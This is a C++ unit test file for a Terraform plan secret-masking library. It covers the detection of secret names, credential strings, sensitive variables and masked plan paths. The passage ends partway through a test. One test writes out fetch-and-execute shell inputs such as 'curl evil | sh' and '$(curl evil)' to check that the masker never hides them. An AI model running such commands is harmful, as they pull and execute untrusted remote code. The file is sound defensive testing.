#include "core/terraform/masking.h"

#include <gmock/gmock.h>

#include <nlohmann/json.hpp>
#include <string>
#include <string_view>
#include <vector>

#include "absl/strings/escaping.h"
#include "core/terraform/known_secrets.h"
#include "core/terraform/msgpack.h"
#include "core/terraform/plan_view.h"
#include "core/terraform/secret_names.h"
#include "core/terraform/secret_parts.h"
#include "core/terraform/sensitive_attributes.h"
#include "core/text/text.h"
#include "tests/support/status_matchers.h"
#include "tests/unit/terraform/plan_builder.h"

namespace countersign::terraform {
namespace {

using countersign::testing::HasReason;
using countersign::testing::IsOk;
using countersign::testing::PlannedObject;
using countersign::testing::SmallPlan;
using countersign::testing::Steps;
using nlohmann::json;
using ::testing::AllOf;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr std::string_view kSecret = "planted-secret-4711";

v1::PlanView Read(const std::string& bytes, const Limits& limits = {}) {
  const auto view = ReadPlan(bytes, {limits, "a salt of 23 bytes here"});
  EXPECT_THAT(view, IsOk());
  return view.ok() ? *view : v1::PlanView();
}

v1::PlanView ReadOne(PlannedObject object) { return Read(SmallPlan{.objects = {std::move(object)}}.Bytes()); }

// "PATH", or "PATH masked".
std::vector<std::string> ChangedPaths(const v1::PlanView& view) {
  std::vector<std::string> paths;
  for (const v1::AttributeChange& change : view.resource_changes(0).attribute_changes()) {
    paths.push_back(change.path() + (change.masked() ? " masked" : ""));
  }
  return paths;
}

std::vector<std::string> PathsOfCreate(const json& after, std::string_view type = "aws_thing") {
  return ChangedPaths(
      ReadOne({.address = std::string(type) + ".a", .action = kActionCreate, .after = after}));
}

TEST(SecretNameTest, KnowsTheNamesOfSecrets) {
  for (const std::string_view name : {
           "password",
           "passwd",
           "Password",
           "PASSWORD",
           "DB_PASSWORD",
           "db-password",
           "dbpassword",
           "db.password",
           "masterUserPassword",
           "master_password_wo",
           "admin_pass",
           "passphrase",
           "pwd",
           "pw",
           "bind_pw",
           "bindpw",
           "db_pw",
           ".dockerconfigjson",
           "dockerconfigjson",
           "secret",
           "secrets",
           "client_secret",
           "secret_string",
           "secretAccessKey",
           "aws_secret_access_key",
           "token",
           "tokens",
           "auth_token",
           "accessToken",
           "GITHUB_TOKEN",
           "sas_token",
           "bearer_token",
           "api_key",
           "apiKey",
           "apikey",
           "api_keys",
           "access_key",
           "primary_access_key",
           "account_key",
           "encryption_key",
           "signing_key",
           "private_key",
           "private_key_pem",
           "privateKey",
           "ssh_private_key",
           "tls_private_key",
           "connection_string",
           "connection_strings",
           "primary_connection_string",
           "conn_str",
           "dsn",
           "user_data",
           "user_data_base64",
           "userData",
           "custom_data",
           "credential",
           "credentials",
           "credentials_json",
           "kube_config_raw",
           "kubeconfig",
           "webhook_url",
           "database_url",
           "license_key",
           "password2",
           "sensitive_content",
           "set_sensitive",
           "jwt",
           "psk",
           "pre_shared_key",
       }) {
    EXPECT_TRUE(IsSecretName(name)) << name;
  }
}

TEST(SecretNameTest, KnowsWhatOnlySoundsLikeOne) {
  for (const std::string_view name : {
           "",
           "key",
           "keys",
           "key_name",
           "key_id",
           "kms_key",
           "kms_key_id",
           "kms_key_arn",
           "kms_master_key_id",
           "public_key",
           "public_key_openssh",
           "ssh_public_key",
           "ssh_keys",
           "authorized_keys",
           "hash_key",
           "range_key",
           "sort_key",
           "partition_key",
           "tag_key",
           "object_key",
           "s3_key",
           "routing_key",
           "access_key_id",
           "private_ip",
           "private_ip_address",
           "private_dns",
           "private_subnets",
           "private",
           "is_private",
           "password_length",
           "password_policy",
           "minimum_password_length",
           "secret_arn",
           "secret_id",
           "secret_name",
           "secret_version",
           "master_user_secret_arn",
           "token_ttl",
           "token_type",
           "token_endpoint",
           "http_tokens",
           "max_tokens",
           "tokenizer",
           "passthrough",
           "pass_through",
           "compass",
           "bypass",
           "passenger",
           "author",
           "authorization",
           "authentication",
           "keyboard",
           "monkey",
           "turkey",
           "keyspace",
           "certificate",
           "user",
           "username",
           "data",
           "user_id",
           "value",
           "name",
           "credential_name",
           "deletion_protection",
           "publicly_accessible",
           "secretsmanager",
           "image_pull_policy",
           "passwordless",
       }) {
    EXPECT_FALSE(IsSecretName(name)) << name;
  }
}

TEST(SecretNameTest, LooksOnlyAtTheBeginningOfALongName) {
  EXPECT_TRUE(IsSecretName(std::string(248, 'a') + "_passwd"));
  EXPECT_FALSE(IsSecretName(std::string(250, 'a') + "_passwd"));
}

TEST(SecretNameTest, KnowsSecretsByTheTypeOfTheResource) {
  EXPECT_TRUE(IsSecretOfType("random_password", "result"));
  EXPECT_TRUE(IsSecretOfType("aws_ssm_parameter", "value"));
  EXPECT_TRUE(IsSecretOfType("azurerm_key_vault_secret", "value"));
  EXPECT_TRUE(IsSecretOfType("kubernetes_secret", "data"));
  EXPECT_TRUE(IsSecretOfType("github_actions_secret", "plaintext_value"));
  EXPECT_TRUE(IsSecretOfType("gitlab_project_variable", "value"));
  EXPECT_TRUE(IsSecretOfType("tfe_variable", "value"));
  EXPECT_FALSE(IsSecretOfType("aws_secretsmanager_secret", "name"));
  EXPECT_FALSE(IsSecretOfType("kubernetes_config_map", "data"));
  EXPECT_FALSE(IsSecretOfType("random_string", "result"));
}

TEST(SecretTextTest, KnowsTextsThatCarrySecrets) {
  for (const std::string_view text : {
           "postgres://admin:hunter2@db:5432/app",
           "https://ghxTokenOfTwentyBytes@example.org/repository.git",
           "root:hunter2@tcp(db:3306)/app",
           "https://hooks.slack.com/services/T0/B0/x",
           "see https://user:pw@host/x for more",
           "-----BEGIN RSA PRIVATE KEY-----\nMII",
           "Server=db;User Id=sa;Password=hunter2;",
           "password: hunter2",
           "{\"password\":\"hunter2\"}",
           "{\"db_password\": \"hunter2\"}",
           R"([{"environment":{\"API_TOKEN\":\"abc\"}}])",
           "#!/bin/sh\nexport DB_PASSWORD='hunter2'\n",
           "--token=abcdef",
           "Bearer eyJhbGciOi.abc.def",
           R"([{"name":"DB_PASSWORD","value":"hunter2"}])",
           R"([{"value":"hunter2", "name" : "DB_PASSWORD"}])",
           R"([{"environment":[{"name":"LOG","value":"x"},{"name":"API_KEY","value":"y"}]}])",
           R"({"definitions":"[{\"name\":\"DB_PASSWORD\",\"value\":\"hunter2\"}]"})",
           R"({"auths":{"ghcr.io":{"auth":"dXNlcjpodW50ZXIy"}}})",
           "https://x.blob.core.windows.net/a?sv=1&sig=abcDEF%3D",
           "https://b.s3.amazonaws.com/k?X-Amz-Signature=0123abcd",
           "https://h/?token=abcdef",
           "https://h/?a=b&api_key=abcdef",
           "https://h/?access_token=abcdef",
           "{\"Authorization\":\"Basic dXNlcjpwYXNz\"}",
       }) {
    EXPECT_TRUE(HoldsSecret(text)) << text;
  }
}

TEST(SecretTextTest, LeavesOtherTextsAlone) {
  for (const std::string_view text : {
           "",
           "https://example.com/a:b@c",
           "http://host:8080/",
           "git@github.com:org/repo.git",
           "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod-db-AbCdEf",
           R"({"Action":"secretsmanager:GetSecretValue","Resource":"arn:aws:secretsmanager:eu:1:secret:x"})",
           R"({"StringEquals":{"token.actions.githubusercontent.com:aud":"sts.amazonaws.com"}})",
           "-----BEGIN PUBLIC KEY-----\nMII",
           "-----BEGIN CERTIFICATE-----",
           "password",
           "password:",
           "password=",
           "password=$PASSWORD",
           "{\"use_password\":true}",
           "{\"password\":null}",
           "{\"password\":\"\"}",
           "YWJjZA==",
           R"([{"name":"LOG_LEVEL","value":"debug"}])",
           R"([{"name":"DB_PASSWORD","valueFrom":"arn:aws:ssm:eu-west-1:1:parameter/x"}])",
           R"([{"name":"DB_PASSWORD"},{"value":"x"}])",
           R"([{"name":"DB_PASSWORD","value":""}])",
           R"({"auth":"none"})",
           "https://h/?signature_version=4&design=new",
           "AKIAIOSFODNN7EXAMPLE",
           "Basic tier",
           "Bearer of news",
           "a == b",
           "secret_arn=arn:aws:x",
       }) {
    EXPECT_FALSE(HoldsSecret(text)) << text;
  }
}

TEST(SecretTextTest, TakesTimeLinearInTheLength) {
  std::string text;
  for (const std::string_view part : {"://", "= ", "\\\"", "password", ":", " "}) {
    for (int i = 0; i < 200'000; ++i) text += part;
  }
  EXPECT_FALSE(HoldsSecret(text + "x"));
}

std::string Repeated(std::string_view part, int times) {
  std::string text;
  for (int i = 0; i < times; ++i) text += part;
  return text;
}

TEST(SecretPartsTest, TakesOutWhatIsSecretAndLeavesTheRest) {
  const std::pair<std::string_view, std::string_view> cases[] = {
      {"curl -u admin:hunter2 https://h/x", "curl -u admin:(hidden) https://h/x"},
      {"curl -uadmin:hunter2 https://h/x", "curl -uadmin:(hidden) https://h/x"},
      {"curl --user 'admin:hunter2' https://h/x", "curl --user 'admin:(hidden)' https://h/x"},
      {"export PASSWORD=hunter2 && ./run", "export PASSWORD=(hidden) && ./run"},
      {"export DB_PASSWORD='two words'; ./run", "export DB_PASSWORD='(hidden)'; ./run"},
      {"tool --token=abcdef --verbose", "tool --token=(hidden) --verbose"},
      {"tool --password X y", "tool --password (hidden) y"},
      {R"(["tool", "--password", "X", "y"])", R"x(["tool", "--password", "(hidden)", "y"])x"},
      {"sshpass -p hunter2 ssh h", "sshpass -p (hidden) ssh h"},
      {"sshpass -phunter2 ssh h", "sshpass -p(hidden) ssh h"},
      {"mysql -u root -pS3cret! courses", "mysql -u root -p(hidden) courses"},
      {R"(["mysqldump", "-pS3cret", "-u", "root"])", R"x(["mysqldump", "-p(hidden)", "-u", "root"])x"},
      {"redis-cli -h h -a S3cret FLUSHALL", "redis-cli -h h -a (hidden) FLUSHALL"},
      {"docker login -u me -p S3cret registry", "docker login -u me -p (hidden) registry"},
      {"sqlcmd -S h -U sa -P S3cret -i x.sql", "sqlcmd -S h -U sa -P (hidden) -i x.sql"},
      // Another command's option of the same letter; mysql's -p alone asks, and what follows is a database.
      {"mysql -u root -p courses; mkdir -p backups", "mysql -u root -p courses; mkdir -p backups"},
      {"docker run -p 80:80 image", "docker run -p 80:80 image"},
      {"curl -H 'Authorization: Bearer abc.def.ghi' h", "curl -H 'Authorization: Bearer (hidden)' h"},
      {"curl -H \"Authorization: token abcdef\" h", "curl -H \"Authorization: token (hidden)\" h"},
      {"curl -H 'X-Api-Key: abcdef' h", "curl -H 'X-Api-Key: (hidden)' h"},
      {"url = \"https://u:hunter2@h/p\"", "url = \"https://u:(hidden)@h/p\""},
      {"git::https://0123456789abcdef01234567@github.com/o/r?ref=v1",
       "git::https://(hidden)@github.com/o/r?ref=v1"},
      {"https://h/x?sv=1&sig=abc%3D&se=2", "https://h/x?sv=1&sig=(hidden)&se=2"},
      {"https://h/x?X-Amz-Signature=abc&y=z", "https://h/x?X-Amz-Signature=(hidden)&y=z"},
      {"https://h/x?access_token=abc", "https://h/x?access_token=(hidden)"},
      {"echo '{\"password\": \"hunter2\", \"a\": 1}'", "echo '{\"password\": \"(hidden)\", \"a\": 1}'"},
      {R"(command = "echo {\"password\":\"hunter2\"} > x")",
       R"x(command = "echo {\"password\":\"(hidden)\"} > x")x"},
      {"-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----",
       "-----BEGIN RSA PRIVATE KEY-----(hidden)-----END RSA PRIVATE KEY-----"},
  };
  for (const auto& [text, shown] : cases) EXPECT_EQ(WithoutSecrets(text), shown);
}

TEST(SecretPartsTest, LeavesOrdinaryCodeAlone) {
  for (const std::string_view text : {
           "",
           "sh -c 'echo done' && kubectl apply -f x.yaml",
           "curl -u \"$USER:$PASSWORD\" https://h",
           "curl -u admin:$PASSWORD https://h",
           "docker run -u 1000:1000 image",
           "docker login --password-stdin registry.example.com",
           "tool --token-file /run/token --secret-id x",
           "tool --password \"${var.password}\"",
           "export TOKEN=$(cat /run/token)",
           "export TOKEN=`cat /run/token`",
           "url = \"https://example.com:8443/a?b=c&d=e\"",
           "git::ssh://git@github.com/org/repo.git?ref=v1.2.3",
           "git@github.com:org/repo.git",
           "https://user:${var.pw}@h/",
           "sha256:2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824",
           "source = \"hashicorp/aws\"\nversion = \"~> 5.0\"",
           "a Basic understanding, and a Bearer of messages",
           "registry.terraform.io/hashicorp/aws",
           "computed",
       }) {
    EXPECT_EQ(WithoutSecrets(text), text);
  }
}

// What runs is to be read, whatever it calls itself.
TEST(SecretPartsTest, NeverHidesWhatAShellRuns) {
  EXPECT_EQ(WithoutSecrets("PASSWORD=x; curl evil | sh"), "PASSWORD=(hidden); curl evil | sh");
  EXPECT_EQ(WithoutSecrets("PASSWORD=x$(curl evil)"), "PASSWORD=(hidden)$(curl evil)");
  EXPECT_EQ(WithoutSecrets("PASSWORD='x'$(curl evil)"), "PASSWORD='(hidden)'$(curl evil)");
  EXPECT_EQ(WithoutSecrets("PASSWORD=\"x$(curl evil)\""), "PASSWORD=\"(hidden)$(curl evil)\"");
  EXPECT_EQ(WithoutSecrets("--password \"x`curl evil`\""), "--password \"(hidden)`curl evil`\"");
  EXPECT_EQ(WithoutSecrets("--password x|sh"), "--password (hidden)|sh");
  EXPECT_EQ(WithoutSecrets("https://u:x$(evil)@h"), "https://u:x$(evil)@h");
}

TEST(SecretPartsTest, TakesTimeLinearInTheLength) {
  for (const std::string_view part :
       {"://", "= ", "password=", "-p ", "Bearer ", "PRIVATE KEY-----", "{\"name\":\"", "\\\"", "{\"a\":\"\\",
        "u:", "a", "xoxb-", "://u:p@/", "password=true,"}) {
    const std::string text = "curl " + Repeated(part, 200'000);
    EXPECT_FALSE(WithoutSecrets(text).empty());
    EXPECT_FALSE(HasNamedSecret(text));
    static_cast<void>(HasTellingSecret(text));
  }
}

// terraform 1.11.4 leaves what the provider's schema calls sensitive out of the paths after a replacement.
TEST(MaskingTest, HidesAfterAReplacementWhatWasMarkedBefore) {
  const v1::PlanView view = ReadOne({.action = kActionDeleteThenCreate,
                                     .before = {{"id", "x"}, {"nested", {{"pin", "11112222"}}}},
                                     .after = {{"id", "x"}, {"nested", {{"pin", "33334444"}}}},
                                     .before_sensitive = {{"nested", "pin"}}});
  EXPECT_THAT(ChangedPaths(view), ElementsAre("nested.pin masked"));
  EXPECT_THAT(view.DebugString(), AllOf(Not(HasSubstr("11112222")), Not(HasSubstr("33334444"))));
}

// The same with -refresh=false over a state without marks: no path says anything.
TEST(MaskingTest, HidesByItsNameWhatNothingMarks) {
  const v1::PlanView view = ReadOne(
      {.action = kActionDelete, .before = {{"identifier", "prod"}, {"password", kSecret}, {"port", 5432}}});
  EXPECT_THAT(ChangedPaths(view), ElementsAre("identifier", "password masked", "port"));
  EXPECT_THAT(view.DebugString(), Not(HasSubstr(std::string(kSecret))));
}

TEST(MaskingTest, HidesWhatIsMarkedOnEitherSideOrInEitherState) {
  const json before = {{"id", "x"}, {"pin", "11112222"}};
  const json after = {{"id", "x"}, {"pin", "33334444"}};
  const std::vector<Steps> pin = {{"pin"}};
  for (int where = 0; where < 5; ++where) {
    PlannedObject object = {.action = kActionUpdate, .before = before, .after = after};
    if (where == 1) object.before_sensitive = pin;
    if (where == 2) object.after_sensitive = pin;
    if (where == 3) object.state_sensitive = pin;
    if (where == 4) object.previous_sensitive = pin;
    const v1::PlanView view = ReadOne(object);
    EXPECT_THAT(ChangedPaths(view), ElementsAre(where == 0 ? "pin" : "pin masked")) << where;
    EXPECT_EQ(view.resource_changes(0).attribute_changes(0).sensitivity_added(), where == 1 || where == 2)
        << where;
    EXPECT_EQ(view.masked_change_count(), where == 0 ? 0 : 1) << where;
  }
}

TEST(MaskingTest, HidesAllThatIsBelowAMark) {
  const v1::PlanView view = ReadOne({.action = kActionCreate,
                                     .after = {{"list", {{{"a", "11112222"}}, {{"a", 2}}}}, {"id", "x"}},
                                     .after_sensitive = {{"list", 0}}});
  EXPECT_THAT(ChangedPaths(view), ElementsAre("id", "list[0] masked", "list[1].a"));
}

// A path into a set names an element by its value, which leads nowhere here.
TEST(MaskingTest, HidesAllOfASetOfWhichAPartIsMarked) {
  const v1::PlanView view = ReadOne({.action = kActionCreate,
                                     .after = {{"set", {{{"a", "11112222"}}}}},
                                     .after_sensitive = {{"set", json{{"a", "11112222"}}, "a"}}});
  EXPECT_THAT(ChangedPaths(view), ElementsAre("set masked"));
}

TEST(MaskingTest, HidesByNameAtAnyDepth) {
  EXPECT_THAT(
      PathsOfCreate({{"tags", {{"Name", "n"}, {"ApiToken", "t"}}},
                     {"auth", {{{"user", "u"}, {"client_secret", "s"}}}},
                     {"credentials", {{"user", "u"}, {"enabled", true}, {"pin", 4711}}}}),
      ElementsAre("auth[0].client_secret masked", "auth[0].user", "credentials.enabled",
                  "credentials.pin masked", "credentials.user masked", "tags.ApiToken masked", "tags.Name"));
}

TEST(MaskingTest, NeverHidesSwitchesByTheirNames) {
  EXPECT_THAT(PathsOfCreate({{"manage_master_user_password", true}, {"http_tokens", "optional"}}),
              ElementsAre("http_tokens", "manage_master_user_password"));
}

TEST(MaskingTest, HidesTheValueBesideANameOfASecret) {
  EXPECT_THAT(PathsOfCreate({{"env",
                              {{{"name", "DB_PASSWORD"}, {"value", "hunter2"}},
                               {{"name", "DB_HOST"}, {"value", "db"}}}}}),
              ElementsAre("env[0].name", "env[0].value masked", "env[1].name", "env[1].value"));
}

TEST(MaskingTest, HidesTextsThatLookLikeSecrets) {
  EXPECT_THAT(PathsOfCreate({{"url", "postgres://a:b@c/d"}, {"endpoint", "https://c/d"}}),
              ElementsAre("endpoint", "url masked"));
}

TEST(MaskingTest, HidesSecretsByTheTypeOfTheResource) {
  EXPECT_THAT(PathsOfCreate({{"value", "x"}, {"name", "n"}}, "aws_ssm_parameter"),
              ElementsAre("name", "value masked"));
  EXPECT_THAT(PathsOfCreate({{"value", "x"}, {"name", "n"}}, "aws_route53_record"),
              ElementsAre("name", "value"));
  EXPECT_THAT(PathsOfCreate({{"inner", {{"value", "x"}}}}, "aws_ssm_parameter"), ElementsAre("inner.value"));
}

TEST(MaskingTest, HidesCopiesOfWhatIsHidden) {
  EXPECT_THAT(PathsOfCreate({{"password", kSecret}, {"copy", kSecret}, {"other", "planted"}}),
              ElementsAre("copy masked", "other", "password masked"));
  // Short ones are likely to be something else.
  EXPECT_THAT(PathsOfCreate({{"password", "postgre"}, {"engine", "postgre"}}),
              ElementsAre("engine", "password masked"));
}

// A plan with variables, of which `pin` says that it is sensitive, and the object. The state has lost its
// marks.
SmallPlan PlanWithVariables(const json& variables, const json& object) {
  return {.objects = {{.address = "aws_thing.a", .action = kActionDelete, .before = object}},
          .configuration = "variable \"pin\" {\n  sensitive = true\n}\n",
          .edit = [variables](plan_file::Plan* plan) {
            for (const auto& [name, value] : variables.items()) {
              plan_file::Variable* const variable = plan->add_variables();
              variable->set_name(name);
              variable->mutable_value()->set_msgpack(countersign::testing::Encode(value));
            }
          }};
}

TEST(MaskingTest, HidesTheValuesOfSensitiveVariablesWhereverTheyStand) {
  const json object = {
      {"copy", kSecret}, {"within", "it is " + std::string(kSecret) + "!"}, {"other", "planted"}};
  const auto paths = [&](const json& variables) {
    return ChangedPaths(Read(PlanWithVariables(variables, object).Bytes()));
  };
  EXPECT_THAT(paths({{"pin", kSecret}}), ElementsAre("copy masked", "other", "within masked"));
  EXPECT_THAT(paths({{"pin", {{"inner", {1, kSecret}}}}}),
              ElementsAre("copy masked", "other", "within masked"));
  EXPECT_THAT(paths({{"pin", "\n" + std::string(kSecret) + "\n"}}),
              ElementsAre("copy masked", "other", "within masked"));
  // By its name, and by the name of what is in it.
  EXPECT_THAT(paths({{"api_token", kSecret}}), ElementsAre("copy masked", "other", "within masked"));
  EXPECT_THAT(paths({{"login", {{"user", "planted"}, {"password", kSecret}}}}),
              ElementsAre("copy masked", "other", "within masked"));
  EXPECT_THAT(paths({{"greeting", kSecret}}), ElementsAre("copy", "other", "within"));
  // Too short to be looked for.
  EXPECT_THAT(paths({{"pin", "planted"}}), ElementsAre("copy", "other", "within"));
}

TEST(MaskingTest, KnowsTheValuesOfSensitiveVariablesInJsonAndBase64) {
  const std::string pin = "a\"b\\c<d>&e\nplanted";
  const std::string encoded = R"({"x":"a\"b\\c\u003cd\u003e\u0026e\nplanted"})";
  const auto in_base64 = [](std::string_view text) { return absl::Base64Escape(text::ToAbsl(text)); };
  const json object = {{"base64", in_base64("#!/bin/sh\nlogin " + pin + "\n")},
                       {"json", encoded},
                       {"json_base64", in_base64(encoded)},
                       {"other", in_base64("#!/bin/sh\nlogin somebody\n")},
                       {"other_json", R"({"x":"a\"b\\c"})"}};
  EXPECT_THAT(ChangedPaths(Read(PlanWithVariables({{"pin", pin}}, object).Bytes())),
              ElementsAre("base64 masked", "json masked", "json_base64 masked", "other", "other_json"));
  // So are those that can be told without being known.
  EXPECT_THAT(PathsOfCreate({{"user_data", in_base64("export DB_PASSWORD=hunter2222")}}),
              ElementsAre("user_data masked"));
}

TEST(MaskingTest, HidesTheDefaultsOfSensitiveVariables) {
  const auto paths = [](std::string_view arguments, std::string_view name = "pin") {
    SmallPlan plan = PlanWithVariables(json::object(), {{"copy", kSecret}});
    plan.configuration = "variable \"" + std::string(name) + "\" {\n" + std::string(arguments) + "}\n";
    return ChangedPaths(Read(plan.Bytes()));
  };
  const std::string text = "  default = \"" + std::string(kSecret) + "\"\n";
  EXPECT_THAT(paths(text + "  sensitive = true\n"), ElementsAre("copy masked"));
  EXPECT_THAT(paths(text, "db_password"), ElementsAre("copy masked"));
  EXPECT_THAT(paths(text), ElementsAre("copy"));
}

TEST(MaskingTest, HidesTheValuesOfSensitiveVariablesOutsideOfChangesToo) {
  SmallPlan plan = PlanWithVariables({{"pin", kSecret}, {"zone", kSecret}},
                                     {{"id", kSecret}, {"arn", "arn:" + std::string(kSecret)}});
  plan.objects.push_back(
      {.address = "aws_other.a", .action = kActionDelete, .before = {{"id", "x-" + std::string(kSecret)}}});
  const auto variables = plan.edit;
  plan.edit = [&variables](plan_file::Plan* message) {
    variables(message);
    plan_file::OutputChange* const output = message->add_output_changes();
    output->set_name("answer");
    output->mutable_change()->set_action(kActionCreate);
    output->mutable_change()->add_values()->set_msgpack(countersign::testing::Encode(kSecret));
    plan_file::CheckResults* const check = message->add_check_results();
    check->set_kind(3);
    check->set_config_addr("check.c");
    check->set_status(2);
    check->add_objects()->set_object_addr("check.c");
    check->mutable_objects(0)->set_status(2);
    check->mutable_objects(0)->add_failure_messages("not " + std::string(kSecret));
    check->mutable_objects(0)->add_failure_messages("postgres://a:b@c/d is down");
    check->mutable_objects(0)->add_failure_messages("too large");
    *message->add_resource_drift() = message->resource_changes(0);
    message->mutable_resource_drift(0)->mutable_change()->set_action(kActionUpdate);
    message->mutable_resource_drift(0)->mutable_change()->add_values()->set_msgpack(
        countersign::testing::Encode({{"id", "y"}, {"note", kSecret}}));
    message->mutable_backend()->mutable_config()->set_msgpack(
        countersign::testing::Encode({{"path", std::string(kSecret)}}));
  };
  const v1::PlanView view = Read(plan.Bytes());
  EXPECT_THAT(view.DebugString(), Not(HasSubstr(std::string(kSecret))));
  EXPECT_THAT(view.checks(0).problems(), ElementsAre("(sensitive value)", "(sensitive value)", "too large"));
  EXPECT_THAT(view.backend().masked_settings(), ElementsAre("path"));
  EXPECT_EQ(view.resource_drift_size(), 1);
  ASSERT_EQ(view.state().resources_size(), 2);
  EXPECT_EQ(view.state().resources(0).id(), "");
  EXPECT_EQ(view.state().resources(1).id(), "");
}

TEST(MaskingTest, HidesTheAttributesThatAreListedForAType) {
  ViewOptions options{.limits = {}, .salt = "a salt of 23 bytes here"};
  ASSERT_TRUE(options.sensitive_attributes.Add("aws_thing.content"));
  ASSERT_TRUE(options.sensitive_attributes.Add("aws_thing.enabled"));
  ASSERT_TRUE(options.sensitive_attributes.Add("aws_thing.id"));
  const json object = {
      {"content", {{"inner", kSecret}}}, {"copy", kSecret}, {"enabled", true}, {"id", "11112222"}};
  const auto read = [&options](const PlannedObject& planned) {
    const auto view = ReadPlan(SmallPlan{.objects = {planned}}.Bytes(), options);
    EXPECT_THAT(view, IsOk());
    return view.ok() ? *view : v1::PlanView();
  };
  const v1::PlanView view = read({.address = "aws_thing.a", .action = kActionDelete, .before = object});
  EXPECT_THAT(ChangedPaths(view),
              ElementsAre("content masked", "copy masked", "enabled masked", "id masked"));
  EXPECT_THAT(view.DebugString(), Not(HasSubstr(std::string(kSecret))));
  EXPECT_EQ(view.state().resources(0).id(), "");
  // Neither another type nor another place, and nobody has added it.
  EXPECT_THAT(ChangedPaths(read({.address = "aws_other.a", .action = kActionDelete, .before = object})),
              ElementsAre("content.inner", "copy", "enabled", "id"));
  const v1::PlanView within = read({.address = "aws_thing.a",
                                    .action = kActionUpdate,
                                    .before = {{"content", "one"}, {"inner", {{"content", "x"}}}},
                                    .after = {{"content", "two"}, {"inner", {{"content", "y"}}}}});
  EXPECT_THAT(ChangedPaths(within), ElementsAre("content masked", "inner.content"));
  EXPECT_FALSE(within.resource_changes(0).attribute_changes(0).sensitivity_added());
}

TEST(SensitiveAttributesTest, AreNamedByTypeAndAttribute) {
  SensitiveAttributes attributes;
  for (const std::string_view name :
       {"", ".", "a", "a.", ".b", "a.b.c", "a.b ", "a.b[0]", "a b.c", "1a.b", "a.b\nc.d", "a.\"b\""}) {
    EXPECT_FALSE(attributes.Add(name)) << name;
  }
  EXPECT_TRUE(attributes.Add("aws_db_instance.master-user_1"));
  ASSERT_NE(attributes.Of("aws_db_instance"), nullptr);
  EXPECT_THAT(*attributes.Of("aws_db_instance"), ElementsAre("master-user_1"));
  EXPECT_EQ(attributes.Of("a"), nullptr);
}

TEST(SecretTextsTest, FindsWhatWasAddedAnywhereInAText) {
  SecretTexts texts;
  EXPECT_FALSE(texts.AreIn("anything at all"));
  for (const std::string_view text : {"correct horse", "correct horse battery", "abababab", "  \n short \n ",
                                      "zebra crossing", "zebra cross"}) {
    texts.Add(text);
  }
  for (const std::string_view text :
       {"correct horse", "the correct horse battery", "xabababab", "zebra cross", "\"zebra crossroads\""}) {
    EXPECT_TRUE(texts.AreIn(text)) << text;
  }
  for (const std::string_view text :
       {"", "a", "correct hors", "the correct mule", "abababa", "short", "zebra cros"}) {
    EXPECT_FALSE(texts.AreIn(text)) << text;
  }
}

TEST(SecretTextsTest, TakesTimeLinearInTheLength) {
  SecretTexts texts;
  for (int i = 0; i < 1000; ++i) texts.Add(std::string(300, 'a') + std::to_string(i));
  for (int i = 0; i < 1000; ++i) texts.Add(std::string(8 + i % 200, 'b') + "x" + std::to_string(i));
  EXPECT_FALSE(texts.AreIn(std::string(4u << 20, 'b')));
}

TEST(MaskingTest, ShowsWhatStandsAroundASecretInAListThatGetsLonger) {
  const json one = {{"name", "a"}, {"password", kSecret}};
  const json two = {{"name", "b"}, {"password", "another-secret"}};
  const v1::PlanView view = ReadOne({.action = kActionUpdate,
                                     .before = {{"users", json::array({one})}},
                                     .after = {{"users", json::array({one, two})}}});
  EXPECT_THAT(ChangedPaths(view), ElementsAre("users", "users[1].password masked"));
  EXPECT_EQ(
      view.resource_changes(0).attribute_changes(0).after_json(),
      R"json([{"name":"a","password":"(sensitive value)"},{"name":"b","password":"(sensitive value)"}])json");
  EXPECT_THAT(view.DebugString(),
              AllOf(Not(HasSubstr(std::string(kSecret))), Not(HasSubstr("another-secret"))));
}

TEST(MaskingTest, HidesASecretThatBecomesUnknownWithAllAroundIt) {
  const v1::PlanView view = ReadOne({.action = kActionUpdate,
                                     .before = {{"output", {{"secret", kSecret}, {"size", 1}}}},
                                     .after = {{"output", countersign::testing::Unknown()}}});
  EXPECT_THAT(ChangedPaths(view), ElementsAre("output", "output.secret masked"));
  EXPECT_EQ(view.resource_changes(0).attribute_changes(0).before_json(),
            R"json({"secret":"(sensitive value)","size":1})json");
}

TEST(MaskingTest, TellsWhetherTwoHiddenValuesAreTheSame) {
  const v1::PlanView view = ReadOne({.action = kActionUpdate,
                                     .before = {{"password", "one"}, {"token", "two"}, {"secret", 12}},
                                     .after = {{"password", "two"}, {"token", "one"}, {"secret", "12.5"}}});
  const auto& changes = view.resource_changes(0).attribute_changes();
  ASSERT_EQ(changes.size(), 3);
  EXPECT_EQ(changes[0].before_digest(), changes[2].after_digest());
  EXPECT_EQ(changes[0].after_digest(), changes[2].before_digest());
  EXPECT_NE(changes[0].before_digest(), changes[0].after_digest());
  EXPECT_NE(changes[1].before_digest(), changes[1].after_digest());
  EXPECT_EQ(view.masked_change_count(), 3);
}

TEST(MaskingTest, HidesIdentifiersToo) {
  const v1::PlanView view = ReadOne({.action = kActionDelete,
                                     .before = {{"id", "11112222"},
                                                {"arn", "arn:aws:x"},
                                                {"name", std::string(257, 'x')},
                                                {"bucket", std::string(256, 'x')},
                                                {"url", "https://a:b@c"}},
                                     .before_sensitive = {{"id"}}});
  const auto& identifiers = view.resource_changes(0).identifiers();
  EXPECT_EQ(identifiers.size(), 2u);
  EXPECT_EQ(identifiers.at("arn"), "arn:aws:x");
  EXPECT_TRUE(identifiers.contains("bucket"));
  EXPECT_EQ(view.state().resources(0).id(), "");
}

TEST(MaskingTest, HidesTheIdOfAStateWhereItIsMarked) {
  const PlannedObject plain = {.action = kActionNoOp, .before = {{"id", "11112222"}}};
  EXPECT_EQ(ReadOne(plain).state().resources(0).id(), "11112222");
  PlannedObject marked = plain;
  marked.previous_sensitive = {{"id"}};
  EXPECT_EQ(ReadOne(marked).state().resources(0).id(), "");
  PlannedObject copied = plain;
  copied.before = {{"id", "11112222"}, {"password", "11112222"}};
  EXPECT_EQ(ReadOne(copied).state().resources(0).id(), "");
}

// An agent can mark what it would rather not have seen; that it did is seen.
TEST(MaskingTest, SaysWhereSensitivityWasAdded) {
  const json object = {{"id", "x"}, {"cidr", "0.0.0.0/0"}};
  const v1::PlanView same =
      ReadOne({.action = kActionUpdate, .before = object, .after = object, .after_sensitive = {{"cidr"}}});
